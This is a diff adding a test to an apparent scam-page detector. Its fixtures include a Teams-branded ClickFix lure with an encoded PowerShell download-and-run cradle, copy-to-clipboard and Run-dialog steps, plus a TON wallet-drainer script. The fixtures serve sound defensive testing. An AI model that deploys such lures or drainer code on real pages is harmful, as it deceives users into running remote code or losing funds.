@@ -1386,6 +1386,14 @@ describe('analysis: signal rules', () => {
       assert.ok(ids(asked).includes('credential-seed-phrase'), JSON.stringify(ids(asked)));
     });
 
+    it('a command to copy with Run-dialog steps, in a brand\'s name on a host the brand does not own, is ClickFix; the same steps on an IT help page in its own name are not', () => {
+      const url = 'https://teams-interview.meeting-join.example/l/meetup-join/19';
+      const html = (title: string): string => `<title>${title}</title><h1>${title}</h1><p>Your audio device could not be started.</p><pre id="c">powershell -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA</pre><button onclick="navigator.clipboard.writeText(document.getElementById('c').textContent)">Copy</button><ol><li>Press Windows + R</li><li>Press Ctrl + V and then Enter</li></ol>`;
+      decides('clickfix-branded-steps', url, html('Microsoft Teams'));
+      const own = judge(url, html('Meeting Join IT help'));
+      assert.ok(!own.decidedBy?.includes('combo:clickfix-branded-steps'), `${own.verdict} ${own.decidedBy?.join(',')}`);
+    });
+
     it('a TON airdrop in Russian that connects Tonkeeper and sends a plain transfer to an address the page holds is a drainer; a TON swap whose message carries a payload is not plain', () => {
       const drop = (message: string): ScanResult => judge('https://token-drop.example/claim', `<title>Раздача токенов</title><h2>Второй этап раздачи</h2><p>Подключите кошелёк TON, чтобы получить ваучеры.</p><button id="t">Подключить Tonkeeper</button><script>document.getElementById('t').onclick=async function(){var p=window.tonkeeper&&window.tonkeeper.provider;var acc=await p.send('ton_requestAccounts');await p.send('ton_sendTransaction',[{valid_until:1,messages:[{${message}}]}]);}</script>`);
       const plain = drop("address:'UQBvW8Z5huBkMJYdnfAEM5JqTNkuWX3diqYENkWsIL0XggGG',amount:String(9e8)");
